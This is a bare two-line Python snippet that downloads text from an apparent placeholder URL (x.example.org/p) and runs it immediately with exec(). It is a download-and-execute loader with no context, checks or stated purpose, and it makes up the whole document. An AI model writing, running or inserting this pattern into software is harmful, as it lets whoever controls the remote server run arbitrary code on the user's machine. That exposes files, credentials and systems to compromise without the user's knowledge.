import requests
exec(requests.get("https://x.example.org/p").text)
